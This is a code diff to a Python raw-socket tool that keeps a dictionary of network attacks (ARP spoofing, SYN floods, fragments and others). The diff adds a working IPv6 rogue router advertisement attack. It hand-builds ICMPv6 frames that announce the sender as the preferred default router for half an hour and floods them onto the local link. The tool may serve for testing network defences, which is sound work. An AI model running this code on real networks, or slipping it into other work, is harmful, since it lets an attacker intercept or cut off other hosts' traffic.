@@ -17,7 +17,7 @@ import sys
 import time
 from collections.abc import Callable, Iterator
 
-ETH_P_ARP, ETH_P_IP = 0x0806, 0x0800
+ETH_P_ARP, ETH_P_IP, ETH_P_IPV6 = 0x0806, 0x0800, 0x86DD
 BROADCAST = b"\xff" * 6
 _RANDOM = random.Random(7)  # noqa: S311 - the same attack every time
 
@@ -69,6 +69,17 @@ def arp(mac: bytes, address: str, operation: int) -> bytes:
     return BROADCAST + mac + struct.pack("!H", ETH_P_ARP) + body
 
 
+def router_advertisement(mac: bytes) -> bytes:
+    """A frame to all nodes: the way to everywhere is here, for half an hour, before all others (RFC 4861, RFC 4191)."""
+    source = ipaddress.IPv6Address("fe80::bad").packed
+    target = ipaddress.IPv6Address("ff02::1").packed
+    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac
+    pseudo = source + target + struct.pack("!II", len(body), 58)
+    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
+    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target
+    return bytes.fromhex("333300000001") + mac + struct.pack("!H", ETH_P_IPV6) + head + body
+
+
 def own_mac(interface: str) -> bytes:
     """The hardware address of an interface."""
     with open(f"/sys/class/net/{interface}/address") as file:  # noqa: PTH123 - no pathlib under -S is no gain
@@ -106,6 +117,15 @@ def garp(options: argparse.Namespace) -> int:
         for operation in (1, 2):
             link.send(arp(mac, options.source, operation))
     return int(options.count) * 2
+
+
+def routers(options: argparse.Namespace) -> int:
+    """Say that we are the IPv6 router."""
+    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    link.bind((options.interface, ETH_P_IPV6))
+    for _ in paced(options.count, options.rate):
+        link.send(router_advertisement(own_mac(options.interface)))
+    return int(options.count)
 
 
 def adverts(options: argparse.Namespace) -> int:
@@ -160,6 +180,7 @@ def garbage(options: argparse.Namespace) -> int:
 ATTACKS = {
     "garp": garp,
     "adverts": adverts,
+    "routers": routers,
     "spray": spray,
     "syns": syns,
     "fragments": fragments,
